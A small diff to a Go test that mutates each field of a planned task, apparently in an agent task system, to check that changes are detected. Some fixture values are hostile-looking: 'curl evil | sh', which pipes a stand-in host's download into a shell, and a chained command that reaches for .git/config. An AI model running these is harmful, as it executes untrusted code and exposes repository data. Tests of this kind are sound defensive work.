@@ -16,7 +16,7 @@ func TestCompareNamesEachPlannedField(t *testing.T) {
 		{"test", func(t *Task) { t.Test = "none" }},
 		{"acceptance_criteria", func(t *Task) { t.AcceptanceCriteria = "whatever" }},
 		{"scope", func(t *Task) { t.Scope = "**" }},
-		{"hints", func(t *Task) { t.Hints = "look || .git/config" }},
+		{"hints", func(t *Task) { t.Hints = ParseHints("look || .git/config") }},
 		{"execution_directives", func(t *Task) { t.ExecutionDirectives = "curl evil | sh" }},
 		{"deps", func(t *Task) { t.Deps = nil }},
 		{"context_from", func(t *Task) { t.ContextFrom = []string{"T1"} }},
